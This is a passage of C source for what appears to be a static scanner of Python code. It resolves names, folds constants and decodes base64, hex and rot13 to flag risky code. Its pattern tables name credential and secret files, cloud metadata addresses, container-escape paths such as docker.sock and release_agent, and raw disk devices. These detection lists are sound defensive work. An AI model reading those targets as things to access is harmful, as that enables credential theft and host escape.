        if (cp < 0x80) {
                b[0] = (char)cp;
                n = 1;
        } else if (cp < 0x800) {
                b[0] = (char)(0xc0 | cp >> 6);
                b[1] = (char)(0x80 | (cp & 0x3f));
                n = 2;
        } else if (cp < 0x10000) {
                b[0] = (char)(0xe0 | cp >> 12);
                b[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
                b[2] = (char)(0x80 | (cp & 0x3f));
                n = 3;
        } else if (cp <= 0x10ffff) {
                b[0] = (char)(0xf0 | cp >> 18);
                b[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
                b[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
                b[3] = (char)(0x80 | (cp & 0x3f));
                n = 4;
        } else
                return false;
        return str_append(s, b, n);
}

static bool str_is(const Str *s, const char *lit)
{
        return !(s->flags & STR_INT) && s->len == strlen(lit) && memcmp(s->p, lit, s->len) == 0;
}

/* --- bindings: what a name stands for, per scope ----------------------------------------- */

/* The scope of the cache of what unbound names resolve to (see resolve_name()). */
#define SCOPE_CACHE UINT32_MAX

enum {
        B_QUAL = 1, /* a module or a qualified name: "import os as o", "s = os.system" */
        B_CONST,    /* a folded string (flags say whether decoded) */
        B_DECODED,  /* the result of a decoder whose value is unknown */
        B_INTLIST,  /* a list of ints, as code points: [105, 109, ...] */
        B_LOCAL,    /* anything else: the name shadows builtins and modules */
};

typedef struct Binding {
        uint32_t name, name_len; /* in the arena */
        uint32_t val, val_len;   /* in the arena */
        uint32_t scope;
        uint32_t next; /* in the same hash bucket, or UINT32_MAX */
        uint8_t kind;
        uint8_t flags; /* Str flags of a B_CONST */
} Binding;

typedef struct Bindings {
        Binding *v;
        size_t n, cap;
        uint32_t *bucket;
        size_t n_bucket; /* a power of two, or 0 */
        char *arena;
        size_t arena_len, arena_cap;
} Bindings;

static void bindings_done(Bindings *b)
{
        free(b->v);
        free(b->bucket);
        free(b->arena);
        *b = (Bindings){};
}

/* FNV-1a of the name; the scope is mixed in when picking the bucket, so that one hash of the
 * name serves the lookups in every scope. */
static uint32_t name_hash(const char *s, size_t n)
{
        uint32_t h = 2166136261u;

        for (size_t i = 0; i < n; i++)
                h = (h ^ (unsigned char)s[i]) * 16777619u;
        return h;
}

static size_t bucket_of(const Bindings *b, uint32_t h, uint32_t scope)
{
        return (h ^ scope * 0x9e3779b1u) & (b->n_bucket - 1);
}

static bool arena_add(Bindings *b, const char *s, size_t n, uint32_t *ret)
{
        if (n > ARENA_MAX || b->arena_len > ARENA_MAX - n)
                return false;
        if (b->arena_len + n > b->arena_cap) {
                size_t cap = MAX(b->arena_cap * 2, b->arena_len + n + 4096);
                char *p = realloc(b->arena, cap);

                if (!p)
                        return false;
                b->arena = p;
                b->arena_cap = cap;
        }
        if (n > 0)
                memcpy(b->arena + b->arena_len, s, n);
        *ret = (uint32_t)b->arena_len;
        b->arena_len += n;
        return true;
}

static Binding *bindings_find(const Bindings *b, const char *name, size_t n, uint32_t h,
                              uint32_t scope)
{
        if (b->n_bucket == 0)
                return NULL;
        for (uint32_t i = b->bucket[bucket_of(b, h, scope)]; i != UINT32_MAX; i = b->v[i].next) {
                Binding *e = &b->v[i];

                if (e->scope == scope && e->name_len == n &&
                    memcmp(b->arena + e->name, name, n) == 0)
                        return e;
        }
        return NULL;
}

static bool bindings_rehash(Bindings *b)
{
        size_t nb = b->n_bucket ? b->n_bucket * 2 : 256;
        uint32_t *bucket = malloc(nb * sizeof(*bucket));

        if (!bucket)
                return false;
        memset(bucket, 0xff, nb * sizeof(*bucket));
        for (size_t i = 0; i < b->n; i++) {
                Binding *e = &b->v[i];
                uint32_t h = (name_hash(b->arena + e->name, e->name_len) ^ e->scope * 0x9e3779b1u) &
                             (uint32_t)(nb - 1);

                e->next = bucket[h];
                bucket[h] = (uint32_t)i;
        }
        free(b->bucket);
        b->bucket = bucket;
        b->n_bucket = nb;
        return true;
}

/* Binds name in scope to (kind, value), replacing what it was bound to there. False when out of
 * memory or past ARENA_MAX: the name then keeps its old meaning. */
static bool bindings_set(Bindings *b, const char *name, size_t n, uint32_t scope, uint8_t kind,
                         const char *val, size_t val_len, uint8_t flags)
{
        uint32_t h = name_hash(name, n), v = 0;
        Binding *e = bindings_find(b, name, n, h, scope);

        if (!arena_add(b, val, val_len, &v))
                return false;
        if (!e) {
                uint32_t off;

                if (b->n >= UINT32_MAX - 1 || !arena_add(b, name, n, &off))
                        return false;
                if (b->n == b->cap) {
                        size_t cap = b->cap ? b->cap * 2 : 64;
                        Binding *p = reallocarray(b->v, cap, sizeof(*p));

                        if (!p)
                                return false;
                        b->v = p;
                        b->cap = cap;
                }
                if (b->n + 1 > b->n_bucket && !bindings_rehash(b))
                        return false;
                e = &b->v[b->n];
                *e = (Binding){.name = off, .name_len = (uint32_t)n, .scope = scope};
                e->next = b->bucket[bucket_of(b, h, scope)];
                b->bucket[bucket_of(b, h, scope)] = (uint32_t)b->n++;
        }
        e->kind = kind;
        e->flags = flags;
        e->val = v;
        e->val_len = (uint32_t)val_len;
        return true;
}

/* --- the matcher's state ----------------------------------------------------------------- */

enum { BLOCK_LOOP = 1, BLOCK_FUNC, BLOCK_TRY };

/* A loop or a function (or class) body, open from its header to the first line indented no
 * deeper than the header. */
typedef struct Block {
        uint8_t kind;
        bool infinite; /* while True, for over itertools.count() */
        bool exits;    /* break, return, raise, exit, yield */
        bool forks;
        bool grows;     /* appends, +=, threads */
        bool throttled; /* sleeps or blocks on input */
        bool recurses;  /* BLOCK_FUNC: calls itself */
        bool in_try;    /* BLOCK_LOOP: inside a try, an exception may end it */
        uint32_t level; /* indentation level of the header */
        uint32_t tok;   /* header's first token */
        uint32_t end;   /* header's last token */
        uint32_t scope; /* BLOCK_FUNC: scope of its body */
        uint32_t name;  /* BLOCK_FUNC: token of its name */
} Block;

/* What all the scans of one file share, payloads included. */
typedef struct Shared {
        ScanReport *report;
        size_t budget;         /* steps of folding and look-ahead left */
        size_t payload_budget; /* bytes of payload left to scan */
        char *scratch;         /* string values of literals */
        size_t scratch_cap;
        int error; /* first error (-ENOMEM) */
        bool reported[_R_MAX];
} Shared;

typedef struct Ctx {
        const char *src;
        size_t len;
        PyToken *tok;   /* without comments and NL */
        uint32_t *pair; /* matching bracket (itself when unmatched) */
        size_t n;
        Shared *sh;
        struct Ctx *parent; /* the code that passed this payload to exec() */
        unsigned payload_depth;
        const PyToken *at; /* payload: the call findings are reported at */
        const char *at_snippet;
        size_t at_snippet_len;
        const char *at_what; /* "exec()" */
        Bindings b;
        uint32_t scope, next_scope;
        uint32_t level;
        Block blocks[MAX_BLOCKS];
        size_t n_blocks;
        char stars[MAX_STARS][QMAX];
        size_t n_stars;
        size_t stmt_a, stmt_b; /* the simple statement being matched */
        /* What matching the statement learned, for binding its value: the last decoder seen
         * (SIZE_MAX: none), and where the chain at the value's start ended and what it named. */
        size_t decoded_at, value_start, value_end;
        bool value_known;
        uint8_t value_role;
        char value_q[QMAX];
        bool docstring;
} Ctx;

static inline bool tok_is_n(const Ctx *c, size_t i, const char *s, size_t n)
{
        const PyToken *t;

        if (i >= c->n)
                return false;
        t = &c->tok[i];
        return t->len == n && c->src[t->start] == s[0] &&
               (t->type == PY_TOK_NAME || t->type == PY_TOK_OP) &&
               memcmp(c->src + t->start, s, n) == 0;
}

/* Whether token i is the NAME or OP s. Hot: called for most tokens, so the length of a literal
 * s is computed at compile time. */
#define tok_is(c, i, s) tok_is_n((c), (i), (s), __builtin_strlen(s))

static bool tok_type(const Ctx *c, size_t i, PyTokenType type)
{
        return i < c->n && c->tok[i].type == type;
}

static bool is_opener(const PyToken *t, const char *src)
{
        return t->type == PY_TOK_FSTRING_START ||
               (t->type == PY_TOK_OP && t->len == 1 &&
                (src[t->start] == '(' || src[t->start] == '[' || src[t->start] == '{'));
}

/* Index of the bracket closing the one at i, never past end. */
static size_t close_of(const Ctx *c, size_t i, size_t end)
{
        return c->pair[i] > i && c->pair[i] < end ? c->pair[i] : end;
}

/* The next token after the bracketed group or token at i. */
static size_t skip_group(const Ctx *c, size_t i, size_t end)
{
        if (is_opener(&c->tok[i], c->src))
                return close_of(c, i, end) + 1;
        return i + 1;
}

static bool spend(Ctx *c, size_t steps)
{
        if (c->sh->budget < steps) {
                c->sh->budget = 0;
                return false;
        }
        c->sh->budget -= steps;
        return true;
}

static void fail(Ctx *c, int r)
{
        if (c->sh->error == 0)
                c->sh->error = r;
}

/* Reports rule at tokens [ta, tb]; in a payload, at the call that runs it. */
static void report(Ctx *c, unsigned rule, size_t ta, size_t tb, const char *fmt, ...)
    _printf_(5, 6);
static void report(Ctx *c, unsigned rule, size_t ta, size_t tb, const char *fmt, ...)
{
        char reason[200];
        const char *snippet;
        size_t snippet_len;
        uint32_t line, col;
        va_list ap;
        int r;

        for (size_t i = 0; i < ELEMENTSOF(once_per_file); i++)
                if (once_per_file[i] == rule && c->sh->reported[rule])
                        return;
        c->sh->reported[rule] = true;
        va_start(ap, fmt);
        vsnprintf(reason, sizeof(reason), fmt, ap);
        va_end(ap);
        if (c->at) {
                line = c->at->line;
                col = c->at->col;
                snippet = c->at_snippet;
                snippet_len = c->at_snippet_len;
                r = scan_report_add(c->sh->report, &scan_python_rules[rule], line, col, snippet,
                                    snippet_len, "in the code %s runs: %s", c->at_what, reason);
        } else {
                const PyToken *a = &c->tok[MIN(ta, c->n - 1)];
                const PyToken *b = &c->tok[MIN(MAX(ta, tb), c->n - 1)];
                size_t end = MAX((size_t)a->start, (size_t)b->start + b->len);

                snippet = c->src + a->start;
                snippet_len = MIN(end - a->start, (size_t)SNIPPET_MAX);
                r = scan_report_add(c->sh->report, &scan_python_rules[rule], a->line, a->col,
                                    snippet, snippet_len, "%s", reason);
        }
        if (r < 0)
                fail(c, r);
}

/* The value of a STRING or FSTRING_MIDDLE token, in the shared scratch buffer. */
static bool token_value(Ctx *c, size_t i, const char **ret, size_t *ret_len)
{
        const PyToken *t = &c->tok[i];
        size_t need = (size_t)t->len + 1;

        if (need > c->sh->scratch_cap) {
                char *p = realloc(c->sh->scratch, need);

                if (!p) {
                        fail(c, -ENOMEM);
                        return false;
                }
                c->sh->scratch = p;
                c->sh->scratch_cap = need;
        }
        /* A value is never longer than its literal. */
        *ret_len =
            MIN(py_string_value(c->src, t, c->sh->scratch, c->sh->scratch_cap), c->sh->scratch_cap);
        *ret = c->sh->scratch;
        return true;
}

/* --- literals: paths, hosts, names ------------------------------------------------------- */

/* Substrings of a literal. With prefix false the match must end at the end of the string or
 * at a character that cannot continue a file name ("/dev/mem" but not "/dev/memory"). */
static const struct {
        const char *s;
        uint8_t rule;
        bool prefix;
} path_patterns[] = {
    {"/etc/shadow", R_PATH_CRED, true},  /* password hashes, and its backup shadow- */
    {"/etc/gshadow", R_PATH_CRED, true}, /* group password hashes */
    {"/run/secrets", R_PATH_CRED, true}, /* Docker and Kubernetes secrets */
    {"/var/run/secrets", R_PATH_CRED, true},
    {".aws/credentials", R_PATH_CRED, false},
    {".kube/config", R_PATH_CRED, false},
    {".docker/config.json", R_PATH_CRED, false}, /* registry tokens */
    {"/proc/self/environ", R_PATH_CRED, false},  /* the environment: API keys */
    {"/proc/thread-self/environ", R_PATH_CRED, false},
    {"/proc/1/environ", R_PATH_CRED, false},
    {"169.254.169.254", R_PATH_METADATA, false}, /* AWS, GCP, Azure, OpenStack metadata */
    {"169.254.170.2", R_PATH_METADATA, false},   /* ECS task credentials */
    {"metadata.google.internal", R_PATH_METADATA, false},
    {"100.100.100.200", R_PATH_METADATA, false}, /* Alibaba Cloud */
    {"fd00:ec2::254", R_PATH_METADATA, false},   /* AWS over IPv6 */
    {"/dev/mem", R_PATH_MEMORY, false},
    {"/dev/kmem", R_PATH_MEMORY, false},
    {"/dev/port", R_PATH_MEMORY, false}, /* I/O ports */
    {"/proc/kcore", R_PATH_MEMORY, false},
    {"/proc/self/mem", R_PATH_MEMORY, false},
    {"/proc/1/", R_PATH_ESCAPE, true},         /* the host's (or the container's) init */
    {"/proc/sys/kernel", R_PATH_ESCAPE, true}, /* core_pattern runs a helper on the host */
    {"/proc/sysrq-trigger", R_PATH_ESCAPE, false},
    {"/sys/kernel/", R_PATH_ESCAPE, true},
    {"release_agent", R_PATH_ESCAPE, false}, /* cgroup v1 escape */
    {"docker.sock", R_PATH_ESCAPE, false},   /* root on the host through the daemon */
    {"containerd.sock", R_PATH_ESCAPE, false},
    {"/proc/self/exe", R_PATH_ESCAPE, false}, /* runc CVE-2019-5736 */
    {"/dev/sd", R_PATH_DISK, true},
    {"/dev/hd", R_PATH_DISK, true},
    {"/dev/vd", R_PATH_DISK, true},
    {"/dev/xvd", R_PATH_DISK, true},
    {"/dev/nvme", R_PATH_DISK, true},
    {"/dev/mmcblk", R_PATH_DISK, true},
    {"/dev/dm-", R_PATH_DISK, true},
    {"/dev/mapper/", R_PATH_DISK, true},
    {"/dev/disk/", R_PATH_DISK, true},
    {"/etc/passwd", R_PATH_ACCOUNTS, true},
    {"/etc/group", R_PATH_ACCOUNTS, false},
    {"/etc/sudoers", R_PATH_ACCOUNTS, true},
};

/* Path components that are credentials wherever they are: os.path.join(home, ".ssh", "id_rsa").
 * A trailing '*' matches any rest ("id_rsa.pub"). */
static const char *const credential_components[] = {
    ".ssh",  ".aws",    ".gnupg",  ".netrc",    ".git-credentials", ".pgpass",
    ".kube", "id_rsa*", "id_dsa*", "id_ecdsa*", "id_ed25519*",      "authorized_keys",
};

/* Hosts that are allowed in URLs, as names or suffixes (".corp.example"). Empty by default:
 * every host but the local machine is reported, at low severity; a deployment lists its own. */
static const char *const url_allow_hosts[] = {
    NULL,
};

static bool name_char(char ch)
{
        return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') ||
               ch == '_' || ch == '-' || ch == '.';
}

static bool component_matches(const char *p, size_t n, const char *pat)
{
        size_t k = strlen(pat);

        if (pat[k - 1] == '*')
                return n >= k - 1 && memcmp(p, pat, k - 1) == 0;
        return n == k && memcmp(p, pat, n) == 0;
}

static bool ieq(const char *a, size_t n, const char *b)
{
        return n == strlen(b) && strncasecmp(a, b, n) == 0;
}

static bool ends_with(const char *a, size_t n, const char *suffix)
{
        size_t k = strlen(suffix);

        return n >= k && strncasecmp(a + n - k, suffix, k) == 0;
}

/* Hosts that are the machine itself or names that can never resolve (RFC 2606, RFC 6761):
 * not a destination. */
static bool host_is_local(const char *h, size_t n)
{
        if (n == 0 || ieq(h, n, "localhost") || ends_with(h, n, ".localhost") ||
            ieq(h, n, "0.0.0.0") || ieq(h, n, "::1") || (n >= 4 && memcmp(h, "127.", 4) == 0))
                return true;
        return ieq(h, n, "example.com") || ieq(h, n, "example.net") || ieq(h, n, "example.org") ||
               ends_with(h, n, ".example.com") || ends_with(h, n, ".example.net") ||
               ends_with(h, n, ".example.org") || ends_with(h, n, ".example") ||
               ends_with(h, n, ".test") || ends_with(h, n, ".invalid");
}

static bool host_is_allowed(const char *h, size_t n)
{
        for (size_t i = 0; i < ELEMENTSOF(url_allow_hosts) && url_allow_hosts[i]; i++) {
                const char *a = url_allow_hosts[i];

                if (a[0] == '.' ? ends_with(h, n, a) : ieq(h, n, a))
                        return true;
        }
        return false;
}

static bool host_is_ip(const char *h, size_t n)
{
        size_t digits = 0, dots = 0;

        if (memchr(h, ':', n)) /* IPv6 */
                return true;
        for (size_t i = 0; i < n; i++) {
                if (h[i] == '.')
                        dots++;
                else if (h[i] >= '0' && h[i] <= '9')
                        digits++;
                else
                        return false;
        }
        return dots == 3 && digits > 0;
}

/* Every "scheme://host" in the value. */
static void check_urls(Ctx *c, const char *v, size_t n, size_t ta, size_t tb)
{
        static const char *const schemes[] = {"http", "https", "ftp", "ws", "wss"};
        const char *p = v, *end = v + n, *sep;

        while ((sep = memmem(p, (size_t)(end - p), "://", 3))) {
                const char *s = sep, *h = sep + 3, *he;
                bool known = false;

                while (s > v && ((s[-1] | 0x20) >= 'a' && (s[-1] | 0x20) <= 'z'))
                        s--;
                for (size_t i = 0; i < ELEMENTSOF(schemes); i++)
                        known = known || ieq(s, (size_t)(sep - s), schemes[i]);
                p = sep + 3;
                if (!known)
                        continue;
                he = h;
                while (he < end && !strchr("/?#", *he) && (unsigned char)*he > ' ')
                        he++;
                /* user:password@host:port */
                for (const char *at = he; at > h; at--)
                        if (at[-1] == '@') {
                                h = at;
                                break;
                        }
                if (h < he && *h == '[') {
                        const char *rb = memchr(h, ']', (size_t)(he - h));

                        h++;
                        he = rb ? rb : he;
                } else {
                        const char *colon = memchr(h, ':', (size_t)(he - h));

                        he = colon ? colon : he;
                }
                /* A template ("http://%s/", "https://{host}/") names no host yet. */
                for (const char *q = h; q < he; q++)
                        if (!name_char(*q) && *q != ':')
                                h = he;
                if (h == he || host_is_local(h, (size_t)(he - h)) ||
                    host_is_allowed(h, (size_t)(he - h)))
                        continue;
                if (host_is_ip(h, (size_t)(he - h)))
                        report(c, R_NET_URL_IP, ta, tb, "URL to the bare address %.*s",
                               (int)MIN(he - h, 64), h);
                else
                        report(c, R_NET_URL, ta, tb, "URL to %.*s, a host not on the allow-list",
                               (int)MIN(he - h, 64), h);
        }
}

static void check_paths(Ctx *c, const char *v, size_t n, size_t ta, size_t tb)
{
        const char *p, *end = v + n;
        bool slash = memchr(v, '/', n) != NULL;

        for (size_t i = 0; i < ELEMENTSOF(path_patterns); i++) {
                size_t k = strlen(path_patterns[i].s);
                const char *from = v;

                if (!slash && strchr(path_patterns[i].s, '/'))
                        continue;
                while ((p = memmem(from, (size_t)(end - from), path_patterns[i].s, k))) {
                        if (path_patterns[i].prefix || p + k == end || !name_char(p[k])) {
                                report(c, path_patterns[i].rule, ta, tb, "names %s",
                                       path_patterns[i].s);
                                break;
                        }
                        from = p + 1;
                }
        }
        /* /proc/<pid>/mem and /proc/<pid>/environ of other processes */
        for (const char *from = v;
             slash && (p = memmem(from, (size_t)(end - from), "/proc/", 6));) {
                const char *q = p + 6;

                while (q < end && *q >= '0' && *q <= '9')
                        q++;
                from = p + 6;
                if (q == p + 6 || q >= end || *q != '/')
                        continue;
                if ((size_t)(end - q) >= 4 && memcmp(q, "/mem", 4) == 0 &&
                    (end - q == 4 || !name_char(q[4])))
                        report(c, R_PATH_MEMORY, ta, tb, "names the memory of a process");
                else if ((size_t)(end - q) >= 8 && memcmp(q, "/environ", 8) == 0)
                        report(c, R_PATH_CRED, ta, tb, "names the environment of a process");
        }
        /* credential components: split on '/' (and '~' before it) */
        for (p = v; p <= end;) {
                const char *e = memchr(p, '/', (size_t)(end - p));

                if (!e)
                        e = end;
                for (size_t i = 0; i < ELEMENTSOF(credential_components); i++)
                        if (component_matches(p, (size_t)(e - p), credential_components[i])) {
                                report(c, R_PATH_CRED, ta, tb, "names %.*s, a credential file",
                                       (int)MIN(e - p, 64), p);
                                break;
                        }
                p = e + 1;
        }
}

static void check_dunder(Ctx *c, const char *v, size_t n, size_t ta, size_t tb, bool string)
{
        for (size_t i = 0; i < ELEMENTSOF(dunder_attrs); i++)
                if (n == dunder_attrs[i].len && v[0] == dunder_attrs[i].name[0] &&
                    memcmp(v, dunder_attrs[i].name, n) == 0)
                        report(c, dunder_attrs[i].rule, ta, tb,
                               string ? "attribute %s named in a string" : "reaches %s",
                               dunder_attrs[i].name);
}

/* What a string value names: paths, hosts, escape attributes. Most literals have none of the
 * characters these contain, which spares the pattern searches. */
static void check_literal(Ctx *c, const char *v, size_t n, size_t ta, size_t tb)
{
        if (n < 4)
                return;
        if (memchr(v, '/', n) || memchr(v, '.', n) || memchr(v, '_', n) || memchr(v, ':', n) ||
            v[0] == '~')
                check_paths(c, v, n, ta, tb);
        if (memchr(v, ':', n))
                check_urls(c, v, n, ta, tb);
}

/* --- names: tables, bindings, chains ----------------------------------------------------- */

static int py_name_cmp(const void *key, const void *elem)
{
        return strcmp(key, ((const PyName *)elem)->name);
}

/* The entry of a qualified name: exact, or "m.*" (module-wide) for its top-level module m. */
static const PyName *name_find(const char *q)
{
        char buf[QMAX + 3];
        const PyName *e;
        size_t n = strlen(q), top;

        if (n == 0 || q[0] == '<' || n >= QMAX)
                return NULL;
        e = bsearch(q, py_names, ELEMENTSOF(py_names), sizeof(py_names[0]), py_name_cmp);
        if (e)
                return e;
        top = strcspn(q, ".");
        memcpy(buf, q, top);
        memcpy(buf + top, ".*", 3);
        return bsearch(buf, py_names, ELEMENTSOF(py_names), sizeof(py_names[0]), py_name_cmp);
}

/* Whether the table has any name under module m (its first n bytes). "m.x" sort right after
 * "m" and before any "m<c>" (identifier characters come after '.'), so the first name not
 * below m tells. */
static bool module_interesting(const char *m, size_t n)
{
        size_t lo = 0, hi = ELEMENTSOF(py_names);

        while (lo < hi) {
                size_t mid = (lo + hi) / 2;
                const char *name = py_names[mid].name;
                int k = strncmp(name, m, n);

                if (k < 0)
                        lo = mid + 1;
                else
                        hi = mid;
        }
        return lo < ELEMENTSOF(py_names) && strncmp(py_names[lo].name, m, n) == 0 &&
               (py_names[lo].name[n] == '\0' || py_names[lo].name[n] == '.');
}

typedef struct Ref {
        char q[QMAX]; /* "os.system", "builtins.eval", "<globals>", "<path>" */
        bool known;
        bool decoded; /* a name bound to decoded data */
        uint8_t role; /* role of the last name with one along the chain (the callee) */
        const PyName *e;
        bool has_path;
        char path[256]; /* "<path>": pathlib.Path("/etc") */
} Ref;

static bool ref_set(Ref *r, const char *s, size_t n)
{
        if (n >= QMAX) {
                r->known = false;
                return false;
        }
        memcpy(r->q, s, n);
        r->q[n] = '\0';
        r->known = true;
        r->e = NULL;
        return true;
}

static bool ref_append(Ref *r, const char *s, size_t n)
{
        size_t k = strlen(r->q);

        if (k + 1 + n >= QMAX) {
                r->known = false;
                return false;
        }
        r->q[k] = '.';
        memcpy(r->q + k + 1, s, n);
        r->q[k + 1 + n] = '\0';
        r->e = NULL;
        return true;
}

/* Sets r to module m (dotted), its first component mapped through module_alias[]. */
static bool ref_set_module(Ref *r, const char *m, size_t n)
{
        const char *dot = memchr(m, '.', n);
        size_t top = dot ? (size_t)(dot - m) : n;

        for (size_t i = 0; i < ELEMENTSOF(module_alias); i++)
                if (ieq(m, top, module_alias[i].alias) &&
                    memcmp(m, module_alias[i].alias, top) == 0) {
                        if (!ref_set(r, module_alias[i].module, strlen(module_alias[i].module)))
                                return false;
                        return top == n || ref_append(r, m + top + 1, n - top - 1);
                }
        return ref_set(r, m, n);
}

static Binding *lookup(Ctx *c, const char *name, size_t n)
{
        uint32_t h = name_hash(name, n);

        for (Ctx *x = c; x; x = x->parent) {
                Binding *bd = bindings_find(&x->b, name, n, h, x->scope);

                if (!bd && x->scope != 0)
                        bd = bindings_find(&x->b, name, n, h, 0);
                if (bd)
                        return bd;
        }
        return NULL;
}

static const char *binding_value(Ctx *c, const Binding *bd)
{
        /* The binding may live in a parent's table: find whose arena holds it. */
        for (Ctx *x = c; x; x = x->parent)
                if (x->b.v && bd >= x->b.v && bd < x->b.v + x->b.n)
                        return x->b.arena + bd->val;
        return "";
}

static bool resolve_unbound(Ctx *c, const char *name, size_t n, Ref *r);

/* What a bare name stands for: a binding, a name from "from m import *", a builtin the table
 * knows, or a module the table knows even without its import (imported in a way this matcher
 * does not follow: defense in depth). What unbound names resolve to is cached, per number of
 * star imports seen. */
static bool resolve_name(Ctx *c, const char *name, size_t n, Ref *r)
{
        Binding *bd = lookup(c, name, n);

        r->known = false;
        if (bd) {
                const char *v = binding_value(c, bd);

                r->decoded =
                    bd->kind == B_DECODED || (bd->kind == B_CONST && (bd->flags & STR_DECODED));
                /* only watched modules are bound B_QUAL (see qual_kind()) */
                return bd->kind == B_QUAL && ref_set(r, v, bd->val_len);
        }
        if (n + 10 >= QMAX)
                return false;
        bd = bindings_find(&c->b, name, n, name_hash(name, n), SCOPE_CACHE);
        if (bd && bd->flags == c->n_stars)
                return bd->kind == B_QUAL && ref_set(r, binding_value(c, bd), bd->val_len);
        resolve_unbound(c, name, n, r);
        (void)bindings_set(&c->b, name, n, SCOPE_CACHE, r->known ? B_QUAL : B_LOCAL,
                           r->known ? r->q : "", r->known ? strlen(r->q) : 0, (uint8_t)c->n_stars);
        return r->known;
}

/* A name bound nowhere: from "from m import *", a builtin, or a module by its name. */
static bool resolve_unbound(Ctx *c, const char *name, size_t n, Ref *r)
{
        char q[QMAX];

        for (size_t i = 0; i < c->n_stars; i++) {
                snprintf(q, sizeof(q), "%s.%.*s", c->stars[i], (int)n, name);
                if (name_find(q))
                        return ref_set(r, q, strlen(q));
        }
        memcpy(q, "builtins.", 9);
        memcpy(q + 9, name, n);
        q[9 + n] = '\0';
        if (bsearch(q, py_names, ELEMENTSOF(py_names), sizeof(py_names[0]), py_name_cmp))
                return ref_set(r, q, 9 + n);
        if (!ref_set_module(r, name, n))
                return false;
        r->known = module_interesting(r->q, strlen(r->q));
        return r->known;
}

static bool is_sensitive_module(const char *q)
{
        for (size_t i = 0; i < ELEMENTSOF(sensitive_modules); i++)
                if (strcmp(q, sensitive_modules[i]) == 0)
                        return true;
        return false;
}

static const char *const keywords[] = {
    "False", "None",     "True",  "and",    "as",   "assert", "async",  "await",    "break",
    "class", "continue", "def",   "del",    "elif", "else",   "except", "finally",  "for",
    "from",  "global",   "if",    "import", "in",   "is",     "lambda", "nonlocal", "not",
    "or",    "pass",     "raise", "return", "try",  "while",  "with",   "yield",
};

static bool is_keyword(const Ctx *c, size_t i)
{
        const PyToken *t = &c->tok[i];
        char c0 = c->src[t->start];

        /* Keywords are 2 to 8 letters and start with one of these. */
        if (t->type != PY_TOK_NAME || t->len > 8 || t->len < 2 || !strchr("FNTacbdefgilnprwy", c0))
                return false;
        for (size_t k = 0; k < ELEMENTSOF(keywords); k++)
                if (keywords[k][0] == c0 && tok_is(c, i, keywords[k]))
                        return true;
        return false;
}

/* --- constant folding -------------------------------------------------------------------- */

enum { WALK_MAIN = 1 << 0, WALK_CALLEE = 1 << 1 };

static bool walk_chain(Ctx *c, size_t i, size_t end, Ref *r, unsigned flags, unsigned depth,
                       size_t *ret_end);
static bool fold(Ctx *c, size_t a, size_t b, Str *out, unsigned depth);

/* Span of positional argument idx, or of keyword argument kw, of the call whose '(' is at o. */
static bool call_arg(const Ctx *c, size_t o, size_t cl, int idx, const char *kw, size_t *ra,
                     size_t *rb)
{
        int k = 0;

        for (size_t i = o + 1; i < cl; i++) {
                size_t s = i;

                while (i < cl && !tok_is(c, i, ","))
                        i = skip_group(c, i, cl);
                i = MIN(i, cl);
                if (s >= i)
                        continue;
                if (tok_type(c, s, PY_TOK_NAME) && tok_is(c, s + 1, "=") && s + 1 < i) {
                        if (kw && py_token_is(c->src, &c->tok[s], kw)) {
                                *ra = s + 2;
                                *rb = i;
                                return *ra < *rb;
                        }
                } else if (tok_is(c, s, "*") || tok_is(c, s, "**")) {
                        k = INT32_MIN / 2; /* unpacked: the positions after it are unknown */
                } else if (k++ == idx) {
                        *ra = s;
                        *rb = i;
                        return true;
                }
        }
        return false;
}

static bool parse_int(const char *p, size_t n, int64_t *ret)
{
        int base = 10;
        int64_t v = 0;
        size_t i = 0;

        if (n > 2 && p[0] == '0' && strchr("xXoObB", p[1])) {
                base = (p[1] | 0x20) == 'x' ? 16 : (p[1] | 0x20) == 'o' ? 8 : 2;
                i = 2;
        }
        if (i >= n)
                return false;
        for (; i < n; i++) {
                int d;

                if (p[i] == '_')
                        continue;
                if (p[i] >= '0' && p[i] <= '9')
                        d = p[i] - '0';
                else if ((p[i] | 0x20) >= 'a' && (p[i] | 0x20) <= 'f')
                        d = (p[i] | 0x20) - 'a' + 10;
                else
                        return false;
                if (d >= base || v > (INT64_MAX - d) / base)
                        return false;
                v = v * base + d;
        }
        *ret = v;
        return true;
}

static int b64_digit(char ch, bool url)
{
        if (ch >= 'A' && ch <= 'Z')
                return ch - 'A';
        if (ch >= 'a' && ch <= 'z')
                return ch - 'a' + 26;
        if (ch >= '0' && ch <= '9')
                return ch - '0' + 52;
        if (ch == (url ? '-' : '+'))
                return 62;
        if (ch == (url ? '_' : '/'))
                return 63;
        return -1;
}

/* As base64.b64decode() without validate: other characters are dropped, '=' ends the data. */
static bool decode_b64(const Str *in, Str *out, bool url)
{
        uint32_t acc = 0;
        int bits = 0;

        for (size_t i = 0; i < in->len && in->p[i] != '='; i++) {
                int d = b64_digit(in->p[i], url);

                if (d < 0)
                        continue;
                acc = acc << 6 | (uint32_t)d;
                bits += 6;
                if (bits >= 8) {
                        char ch = (char)(acc >> (bits - 8));

                        bits -= 8;
                        if (!str_append(out, &ch, 1))
                                return false;
                }
        }
        return true;
}

static bool decode_hex(const Str *in, Str *out)
{
        int hi = -1;

        for (size_t i = 0; i < in->len; i++) {
                char ch = in->p[i];
                int d = ch >= '0' && ch <= '9'                     ? ch - '0'
                        : (ch | 0x20) >= 'a' && (ch | 0x20) <= 'f' ? (ch | 0x20) - 'a' + 10
                                                                   : -1;

                if (d < 0) {
                        if (ch == ' ' || ch == '\t' || ch == '\n')
                                continue;
                        return false;
                }
                if (hi < 0)
                        hi = d;
                else {
                        char byte = (char)(hi << 4 | d);

                        hi = -1;
                        if (!str_append(out, &byte, 1))
                                return false;
                }
        }
        return hi < 0;
}

static void rot13(Str *s)
{
        for (size_t i = 0; i < s->len; i++) {
                char ch = s->p[i];

                if ((ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z')) {
                        char base = ch >= 'a' ? 'a' : 'A';

                        s->p[i] = (char)(base + (ch - base + 13) % 26);
                }
        }
}

/* Applies codec enc to v in place: rot13, base64, hex; text codecs leave it as is. */
static bool apply_codec(Str *v, const Str *enc)
{
        Str out = {};
        bool ok;

        if (str_is(enc, "rot13") || str_is(enc, "rot_13") || str_is(enc, "rot-13")) {
                rot13(v);
                v->flags |= STR_DECODED;
                return true;
        }
